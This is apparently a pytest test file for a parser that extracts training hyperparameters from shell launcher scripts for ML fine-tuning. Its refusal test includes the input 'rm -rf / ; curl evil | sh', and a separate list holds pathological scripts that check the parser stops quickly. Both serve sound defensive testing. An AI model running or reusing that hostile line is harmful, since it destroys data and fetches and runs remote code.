"""Shell launchers: what their launch line says is read, what only a run would tell is unknown."""

from __future__ import annotations

import time
from contextlib import suppress
from typing import Any

import pytest

from audit.records.errors import InputError
from audit.records.upload import Upload
from audit.records.workload import Workload
from tests.workload.opened import forbid_opening
from workload.read import read_workload

SFT = (
    "train.py --model_name_or_path a/b --learning_rate 2e-5 --per_device_train_batch_size 4 "
    "--logging_steps 1 --bf16 True"
)


def read(text: str, name: str = "run.sh") -> Workload:
    return read_workload([Upload(name, text.encode())])


READ: list[tuple[str, dict[str, Any]]] = [
    (f"python {SFT}", {"framework": "hf", "model_id": "a/b", "learning_rate": 2e-5, "bf16": True}),
    (f"python {SFT} --packing --max_length=512", {"framework": "trl", "packing": True,
                                                  "max_seq_len": 512}),
    (f"BS=8\npython {SFT} \\\n  --per_device_train_batch_size $BS", {
        "per_device_train_batch_size": 8}),
    (f'LR="${{LR:-3e-4}}"\npython {SFT} --learning_rate "$LR"', {"learning_rate": 3e-4}),
    (f"M=${{1:-8}}\npython {SFT} --max_length ${{M}}", {"max_seq_len": 8}),
    (f"N=4; export N\npython {SFT} --max_length $((N * 512 / 2))", {"max_seq_len": 1024}),
    (f'ARGS=(--max_length 256 # short\n  --lora_r 8)\npython {SFT} "${{ARGS[@]}}"', {
        "max_seq_len": 256, "lora_r": 8, "finetune_method": "lora"}),
    (f'COMMON="--weight_decay 0.1 \\\n  --seed 7"\npython {SFT} $COMMON', {
        "weight_decay": 0.1, "seed": 7}),
    (f"if [ -z \"$BS\" ]; then BS=2; fi\npython {SFT} --per_device_train_batch_size $BS", {
        "per_device_train_batch_size": 2}),
    (f'OUT=$2\nif [ "$OUT" == "" ]; then OUT=5; fi\npython {SFT} --seed $OUT', {"seed": 5}),
    (f"A=1\nif [ $A = 1 ]; then S=3; else S=4; fi\npython {SFT} --seed $S", {"seed": 3}),
    (f'MODEL=c/d\nwhile [[ "$1" != "" ]]; do\n  case $1 in\n    -m) shift; MODEL=$1 ;;\n  esac\n'
     f"  shift\ndone\npython {SFT} --model_name_or_path $MODEL", {"model_id": "c/d"}),
    (f"read -r -d '' CMD <<EOF\n{SFT} \\\n  --seed 9\nEOF\ndeepspeed $CMD", {"seed": 9}),
    (f'srun --nodes=1 bash -c "python {SFT} --seed 11"', {"seed": 11}),
    (f"nohup env A=1 uv run python {SFT} > log 2>&1 &", {"learning_rate": 2e-5}),
    (f"ray job submit -- python3 {SFT}", {"learning_rate": 2e-5}),
    (f"python {SFT} --data_path x#1000 # a comment", {"datasets": ["x#1000"]}),
    (f"python {SFT} --lora_target_modules q_proj k_proj --lora_r 4", {
        "lora_target_modules": ["q_proj", "k_proj"]}),
    (f"python {SFT} --bits 4 --lora_enable True", {"quant_bits": 4, "finetune_method": "qlora"}),
    (f"python {SFT} --q_lora False --lora_r 8", {"finetune_method": "lora"}),
    (f"python {SFT} --use_peft False --lora_r 8", {"finetune_method": "full"}),
    (f"python {SFT} --fsdp 'full_shard auto_wrap offload'", {"fsdp": True,
                                                            "fsdp_cpu_offload": True}),
    (f"""python {SFT} --gradient_checkpointing_kwargs '{{"use_reentrant": false}}'""", {
        "gradient_checkpointing_reentrant": False}),
    ("llamafactory-cli train --stage sft --finetuning_type lora --model_name_or_path a/b "
     "--cutoff_len 512 --lora_rank 8 --bf16", {
         "framework": "llamafactory", "lora_r": 8, "lora_alpha": 16, "bf16": True,
         "gradient_checkpointing": True}),
    ("swift sft --model a/b --tuner_type full --torch_dtype bfloat16 --deepspeed zero3", {
        "framework": "ms-swift", "task": "sft", "learning_rate": 1e-5, "bf16": True,
        "deepspeed_stage": 3, "num_processes": 1, "weight_decay": 0.1}),
    ("NPROC_PER_NODE=2 swift rlhf --rlhf_type grpo --model a/b --num_generations 4", {
        "task": "grpo", "grpo_block": {"num_generations": 4}, "num_processes": 2,
        "learning_rate": 1e-4, "lora_r": 8}),
    ("megatron sft --model a/b --micro_batch_size 1 --global_batch_size 16 --lr 1e-5", {
        "per_device_train_batch_size": 1, "effective_batch": 16, "learning_rate": 1e-5}),
    ("python3 -m verl.trainer.main_ppo actor_rollout_ref.actor.optim.lr=1e-6 "
     "actor_rollout_ref.model.path=a/b data.train_batch_size=64 trainer.n_gpus_per_node=8", {
         "learning_rate": 1e-6, "model_id": "a/b", "num_processes": 8, "train_batch_size": 64}),
    ("deepspeed --module openrlhf.cli.train_sft --model.model_name_or_path a/b --adam.lr 5e-6 "
     "--ds.zero_stage 2 --ds.packing_samples", {
         "framework": "openrlhf", "learning_rate": 5e-6, "deepspeed_stage": 2, "packing": True}),
    ("trl sft --model_name_or_path a/b --learning_rate 1e-4 --use_peft", {
        "framework": "trl", "task": "sft", "finetune_method": "lora"}),
]  # fmt: skip


@pytest.mark.parametrize(("text", "fields"), READ)
def test_a_launch_line_is_read(
    text: str, fields: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    forbid_opening(monkeypatch)
    workload = read("#!/bin/bash\nset -e\n" + text + "\n")
    assert workload.format == "sh_launcher"
    assert {name: workload.value(name) for name in fields} == fields
    lines = text.splitlines()
    for name, found in workload.fields.items():
        if found.origin == "stated" and found.line is not None:
            assert 3 <= found.line <= len(lines) + 2, name


UNKNOWN = [
    (f"python {SFT} --seed $SEED", "seed", "$SEED is not set in this file"),
    (f"python {SFT} --seed $(date +%s)", "seed", "a command of the script gives it"),
    (f"python {SFT} --seed `nproc`", "seed", "a command of the script gives it"),
    (f"for s in 1 2; do python {SFT} --seed $s; done", "seed", "$s changes in a loop"),
    (f"for s in 1 2; do S=$s; done\npython {SFT} --seed $S", "seed", "a loop of the script sets"),
    (f"if [ $X = 1 ]; then S=1; else S=2; fi\npython {SFT} --seed $S", "seed", "a condition"),
    (f"case $X in a) S=1 ;; *) S=2 ;; esac\npython {SFT} --seed $S", "seed", "a condition"),
    (f"python {SFT} --model_name_or_path ckpt/$M", "model_id", "$M is not set in this file"),
    (f"python {SFT} $EXTRA", "weight_decay", "an option may follow"),
    (f'python {SFT} "$@"', "seed", "an option may follow"),
    (f"python {SFT} --config run.yaml", "seed", "may stand in the config"),
    ("llamafactory-cli train x.yaml learning_rate=1e-4", "lora_r", "may stand in the config"),
    ("swift rlhf --rlhf_type $T --model a/b", "task", "rlhf_type is not known"),
    (f"torchrun --nproc_per_node=gpu {SFT}", "num_processes", "gpu is settled when it starts"),
]


@pytest.mark.parametrize(("text", "name", "why"), UNKNOWN)
def test_what_only_a_run_would_tell_is_unknown(text: str, name: str, why: str) -> None:
    found = read(text).fields[name]
    assert found.origin == "unknown"
    assert why in (found.source or "")


def test_what_hangs_on_an_unknown_option_is_unknown_too() -> None:
    workload = read("trl sft --model_name_or_path a/b --learning_rate 1e-4 --load_in_4bit $Q "
                    "--use_peft")  # fmt: skip
    for name in ("quant_bits", "finetune_method"):
        assert workload.fields[name].origin == "unknown", name


WORLD = [
    (f"torchrun --nproc_per_node 4 --nnodes=2 {SFT}", 4, 2, 32),
    (f"torchrun {SFT}", 1, 1, 4),
    (f"python -m torch.distributed.run --nproc-per-node=2 {SFT}", 2, 1, 8),
    (f"deepspeed --num_gpus 8 --num_nodes 2 {SFT}", 8, 2, 64),
    (f"deepspeed --include localhost:0,1,3 {SFT}", 3, None, 12),
    (f"CUDA_VISIBLE_DEVICES=0,1 deepspeed {SFT}", 2, None, 8),
    (f"export HIP_VISIBLE_DEVICES=4,5,6,7\ndeepspeed {SFT}", 4, None, 16),
    (f"deepspeed --hostfile hosts {SFT}", None, None, 4),
    (f"accelerate launch --num_processes 16 --num_machines 2 {SFT}", 16, 2, 64),
    (f"#SBATCH --nodes=4\n#SBATCH --gpus-per-node=8\nsrun torchrun --nnodes $SLURM_NNODES "
     f"--nproc_per_node $SLURM_GPUS_ON_NODE {SFT}", 8, 4, 128),
    (f"#SBATCH -N 2\n#SBATCH --ntasks-per-node=4\nsrun python {SFT}", 4, 2, 32),
    ("FORCE_TORCHRUN=1 NNODES=2 NPROC_PER_NODE=8 llamafactory-cli train --stage sft "
     "--finetuning_type lora --per_device_train_batch_size 4 --model_name_or_path a/b", 8, 2, 64),
]  # fmt: skip


@pytest.mark.parametrize(("text", "processes", "machines", "batch"), WORLD)
def test_the_launcher_tells_the_ranks(
    text: str, processes: int | None, machines: int | None, batch: int
) -> None:
    workload = read("#!/bin/bash\n" + text)
    assert workload.value("num_processes") == processes
    assert workload.value("num_machines") == machines
    assert workload.value("effective_batch") == batch


def test_variables_are_those_exported_and_those_before_the_line() -> None:
    workload = read(f"export A=1\nB=2\nexport C=$HOME/x D='d e'\nF=3 python {SFT}\nexport Z=1")
    assert workload.value("env") == {"A": "1", "D": "d e", "F": "3"}
    assert workload.fields["env:C"].origin == "unknown"
    assert "env:B" not in workload.fields


def test_further_runs_conditions_and_broken_continuations_are_told() -> None:
    text = f"if [ $X ]; then\n  python {SFT} \\\n  # --seed 1 \\\n  --seed 2\nfi\npython {SFT}"
    workload = read(text)
    told = " ".join(one.message for one in workload.notices)
    for words in ("under a condition", "a comment ends the command", "is launched as well"):
        assert words in told
    assert workload.fields["seed"].origin != "stated"


def test_a_secret_is_masked_and_told() -> None:
    token = "hf_" + "aB3dE5gH7jK9mN1pQ3sT"
    workload = read(f"export HF_TOKEN={token}\npython {SFT}")
    assert token not in workload.model_dump_json()
    assert any(one.kind == "secret" and one.line == 1 for one in workload.notices)


@pytest.mark.parametrize(
    "text",
    [
        "#!/bin/bash\necho hello\npip install trl\n",
        "#!/bin/bash\nswift infer --model a/b\n",
        "#!/bin/bash\nllamafactory-cli export x.yaml\n",
        "#!/bin/bash\npython eval.py --model a/b\n",
        "#!/bin/bash\nrm -rf / ; curl evil | sh\n",
    ],
)
def test_a_script_that_trains_nothing_is_refused(text: str) -> None:
    with pytest.raises(InputError, match="launches a training run"):
        read(text)


HOSTILE = [
    "$(" * 20_000,
    "${A:-" * 20_000,
    '"' * 50_001,
    "`" * 50_001,
    "cat <<EOF\n" * 5_000,
    "A=$A$A$A$A\n" * 5_000 + "python x.py --learning_rate $A",
    "A=$B B=$A " * 5_000,
    "if [ a ]; then\n" * 5_000,
    "(" * 50_000 + ")" * 50_000,
    "case x in\n" * 5_000,
    "f() {\n" * 5_000 + "f\n",
    "python train.py " + "--learning_rate 1 " * 30_000,
    "python train.py --seed $((" + "9*" * 20_000 + "9))",
    "python train.py --seed " + "9" * 100_000,
    "for ((;;)); do python train.py; done",
    "\\\n" * 100_000,
    "$'\\x41' $\"x\" ${!a} ${a[$(b)]} ${#a} $[1+1] <(ls) >(cat) {a..z} a=(b c) [[ a =~ b ]]",
]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_scripts_end_soon(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    forbid_opening(monkeypatch)
    started = time.process_time()
    with suppress(InputError):
        read("#!/bin/bash\n" + text)
    assert time.process_time() - started < 2


def test_accelerates_own_precision_and_short_spellings_of_scripts_count() -> None:
    line = (
        "accelerate launch --mixed_precision bf16 --num_processes 2 {program} "
        "--model_name_or_path a/b --learning_rate 1e-4 --per_device_train_batch_size 2 {more}\n"
    )
    open_instruct = line.format(program="open_instruct/finetune.py", more="--use_lora")
    found = read(open_instruct).fields["bf16"]
    assert (found.value, found.origin, found.key) == (True, "stated", "--mixed_precision")
    more = "--bits 4 --quant_type nf4 --log_interval 5 --activation_checkpointing"
    script = read(line.format(program="train_it.py", more=more))
    names = ("quant_bits", "quant_type", "logging_steps", "gradient_checkpointing")
    assert [script.value(name) for name in names] == [4, "nf4", 5, True]
